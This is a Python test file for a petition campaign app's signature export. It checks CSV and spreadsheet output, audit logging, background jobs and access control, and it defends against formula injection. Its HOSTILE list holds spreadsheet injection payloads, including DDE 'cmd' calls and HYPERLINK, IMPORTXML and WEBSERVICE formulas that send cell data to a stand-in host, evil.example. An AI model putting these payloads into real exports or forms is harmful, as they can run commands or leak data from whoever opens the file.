"""Files for other programs: the rows that were asked for, in text that no spreadsheet runs, and no more in memory."""

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select, text, update
from werkzeug.test import TestResponse

from campaign import signatures
from campaign.accounts import Role
from campaign.core import audit
from campaign.core.db import session, transaction
from campaign.jobs import batches
from campaign.signatures import Signature, exports
from campaign.signatures.records import ExportState
from campaign.signatures.tables import ALL, PLAIN
from tests.support import people
from tests.support.console import signed_in, token
from tests.support.crowd import crowd
from tests.support.forms import SLUG

HOME = f"/staff/campaigns/{SLUG}/exports"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# What spreadsheets take for a formula, a link, a command or the end of a cell.
HOSTILE = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")', "=2+5+cmd|'/c calc'!A1"),
    *('=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")', '=DDE("a";"b")'),
    *("=A1", "+1+1", "+cmd|'/c calc'!A1", "-1+1", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)", "@A1", "-A1", "+A1", "@cmd"),
    *("-@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "  +1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1"),
    *(
        "\t\t@SUM(1)",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "﹦1+1",
        "\u22121+1",
        "﹢1",
        "﹣1",
        "=\u200b1+1",
        "\u202e=1+1",
    ),
    *('"=1+1', '"","=1+1', '","=1+1","', "=1+1\r\n=2+2", "x\n=1+1", "x,=1+1", "x;=1+1", "x\t=1+1", "'=1+1", "''=1+1"),
    *("{=1+1}", "=1+1;", "%0A=1+1", "=-1", "=+1", "=@A1", "=;", "=", "+", "-", "=TRUE", "=1E5", "+32470000000"),
]


needs_office = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is missing (Debian: libreoffice-calc-nogui)")


def order(client: FlaskClient, kind: str, role: Role = Role.CAMPAIGNER, **values: object) -> TestResponse:
    who = signed_in(client, role)
    fields = {**token(who), "kind": kind, "layout": "plain", **values}
    return client.post(f"{HOME}/order", data=fields, buffered=True)


def rows_of(answer: TestResponse) -> list[dict[str, str]]:
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")))


def made(client: FlaskClient, **values: object) -> bytes:
    """The spreadsheet that the background made."""
    assert order(client, "xlsx", **values).status_code == 303
    session().rollback()
    while batches.work():
        pass
    (file,) = exports.files(people.page().id)
    assert file.state == ExportState.READY
    return client.get(f"{HOME}/{file.id}/file", buffered=True).get_data()


def cells(book: bytes) -> list[list[str]]:
    """The text of each cell of each sheet, and a failure where one is not text."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = sorted(name for name in archive.namelist() if name.startswith("xl/worksheets/sheet"))
        found = []
        for name in sheets:
            for row in ET.fromstring(archive.read(name)).iter(f"{SHEET}row"):
                assert {cell.get("t") for cell in row} == {"inlineStr"}
                assert not list(row.iter(f"{SHEET}f")), "a formula"
                found.append(["".join(cell.itertext()) for cell in row])
        return found


def hostile() -> list[str]:
    """Sixty supporters whose name and comment want to be formulas, whatever the form would say."""
    assert len(HOSTILE) >= 60
    for number in range(len(HOSTILE)):
        people.sign(f"p{number}@example.org", comment="x")
    for number, one in enumerate(people.all_signatures()):
        value = HOSTILE[number].replace("\0", "")  # PostgreSQL stores no NUL
        with transaction():
            changed = update(Signature).where(Signature.id == one.id).values(name=value, comment=value, source=value)
            session().execute(changed)
    return [value.replace("\0", "") for value in HOSTILE]


def test_the_table_holds_what_was_asked_for(client: FlaskClient) -> None:
    people.supporter(updates=True, source="leaflet")
    people.sign("waits@example.org", name="Wout Waits")
    answer = order(client, "csv", state="confirmed")
    (row,) = rows_of(answer)
    assert list(row) == list(ALL)
    assert (row["email"], row["updates"], row["send_consent"], row["edited"]) == (
        "marie@example.org",
        "yes",
        "yes",
        "yes",
    )
    assert "email you about how this campaign goes on" in row["updates_wording"]
    assert answer.headers["Content-Disposition"].startswith(f'attachment; filename="{SLUG}-2')
    assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    ("layout", "header"),
    [("civicrm", "External Identifier,First Name,Last Name,Email"), ("action_network", "email,first_name,last_name")],
)
def test_other_programs_find_their_own_names(client: FlaskClient, layout: str, header: str) -> None:
    people.supporter()
    text_ = order(client, "csv", layout=layout).get_data().decode("utf-8-sig")
    assert text_.startswith(header)
    assert "Marie,Peeters" in text_


def test_chosen_columns_only(client: FlaskClient) -> None:
    people.supporter()
    assert rows_of(order(client, "csv", columns=["email", "reference", "secret"])) == [
        {"reference": people.all_signatures()[0].reference, "email": "marie@example.org"}
    ]


def test_each_export_is_in_the_audit_log_without_names(client: FlaskClient) -> None:
    people.supporter()
    order(client, "csv", columns=["email"], source="-")
    entry = session().scalars(select(audit.AuditEntry).where(audit.AuditEntry.action == "signatures.export")).one()
    assert (entry.detail["signatures"], entry.detail["columns"], entry.detail["by"]) == (1, ["email"], ["source"])


def test_the_spreadsheet_is_the_same_table(client: FlaskClient) -> None:
    people.supporter()
    header, row = cells(made(client))
    assert header == list(ALL)
    assert dict(zip(header, row, strict=True))["email"] == "marie@example.org"


def test_a_spreadsheet_goes_on_over_several_pieces_and_sheets(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("campaign.signatures.tables.PIECE", 7)
    monkeypatch.setattr("campaign.signatures.sheets.ROWS", 20)
    crowd(44)
    found = cells(made(client, columns=["email"]))
    assert [row for row in found if row == ["email"]] == [["email"]] * 3
    assert len(found) == 45 + 3
    assert len({row[0] for row in found}) == 45 + 1


def test_what_a_killed_process_left_is_made_again(client: FlaskClient) -> None:
    people.supporter()
    order(client, "xlsx")
    session().rollback()
    with transaction():
        assert exports.take()
    with transaction():
        assert exports.take() is None, "somebody is at it"
        session().execute(text("UPDATE exports SET beat_at = beat_at - interval '2 minutes'"))
    while batches.work():
        pass
    assert exports.files(people.page().id)[0].state == ExportState.READY


def test_a_file_goes_after_a_day_and_one_that_was_stopped_is_not_made(client: FlaskClient) -> None:
    people.supporter()
    who = signed_in(client, Role.OWNER)
    client.post(f"{HOME}/order", data={**token(who), "kind": "xlsx", "layout": "plain"})
    session().rollback()
    (file,) = exports.files(people.page().id)
    assert client.get(f"{HOME}/{file.id}/file").status_code == 409
    assert client.get(f"{HOME}/{file.id}/progress").get_json()["busy"]
    assert client.post(f"{HOME}/{file.id}/stop", data=token(who)).status_code == 303
    session().rollback()
    assert not batches.work()
    with transaction():
        session().execute(text("UPDATE exports SET created_at = created_at - interval '25 hours'"))
    assert client.get(f"{HOME}/{file.id}/file").status_code == 404
    batches.forget()
    assert session().scalar(text("SELECT count(*) FROM exports")) == 0


def test_another_campaigns_file_is_not_there(client: FlaskClient) -> None:
    people.supporter()
    order(client, "xlsx")
    session().rollback()
    (file,) = exports.files(people.page().id)
    client.delete_cookie("staff")
    signed_in(client, Role.OWNER, "elsewhere")
    for path in (HOME, f"{HOME}/{file.id}/file", f"{HOME}/{file.id}/progress"):
        assert client.get(path).status_code == 404


def test_no_cell_begins_as_a_formula(client: FlaskClient) -> None:
    values = hostile()
    table = rows_of(order(client, "csv"))
    assert len(table) == len(values)
    for value, row in zip(values, table, strict=True):
        for name in ("name", "comment", "source", "given_name"):
            assert row[name][:1] not in set("=+-@\t\r\n＝＋－＠﹦−"), (name, value)
        assert value in (row["name"], row["name"][1:]), "nothing of it is lost"


@pytest.mark.debian
@needs_office
@pytest.mark.timeout(180)
def test_libreoffice_finds_no_formula_in_sixty_hostile_cells(client: FlaskClient, tmp_path: Path) -> None:
    hostile()
    (tmp_path / "table.csv").write_bytes(order(client, "csv").get_data())
    who = session().scalar(text("SELECT id FROM users"))
    client.post(f"{HOME}/order", data={**token(who), "kind": "xlsx", "layout": "plain"})
    session().rollback()
    while batches.work():
        pass
    (file,) = exports.files(people.page().id)
    (tmp_path / "sheet.xlsx").write_bytes(client.get(f"{HOME}/{file.id}/file", buffered=True).get_data())
    # The filter options ask for what a person gets who opens the file: UTF-8, commas, formulas evaluated.
    for name in ("table.csv", "sheet.xlsx"):
        opened = reopened(tmp_path, name)
        formulas = opened.count("table:formula")
        assert formulas == 0, f"{formulas} formulas in {name}"
        assert opened.count("calc") >= 4, "the cells are there"


@pytest.mark.debian
@needs_office
def test_libreoffice_would_find_one(tmp_path: Path) -> None:
    (tmp_path / "bad.csv").write_text("a\n=1+1\n")
    assert "table:formula" in reopened(tmp_path, "bad.csv")


def reopened(folder: Path, name: str) -> str:
    """A file as LibreOffice understands it, in its flat XML."""
    options = ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"] if name.endswith("csv") else []
    command = [str(OFFICE), f"-env:UserInstallation=file://{folder}/profile", "--headless", *options]
    command += ["--convert-to", "fods", "--outdir", str(folder), str(folder / name)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=150, check=False)
    result = (folder / name).with_suffix(".fods")
    assert result.exists(), done.stderr
    return result.read_text()


def test_the_first_rows_come_before_the_last_are_read(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("campaign.signatures.tables.PIECE", 5)
    crowd(40)
    campaign = people.page().id
    pieces = signatures.tables.pieces(campaign, signatures.conditions.Conditions(), PLAIN, ["email"])
    assert len(next(pieces)) == 5
    with transaction():
        session().execute(update(Signature).values(email="changed@example.org"))
    assert [row[0] for row in next(pieces)] == ["changed@example.org"] * 5, "read only when they are wanted"
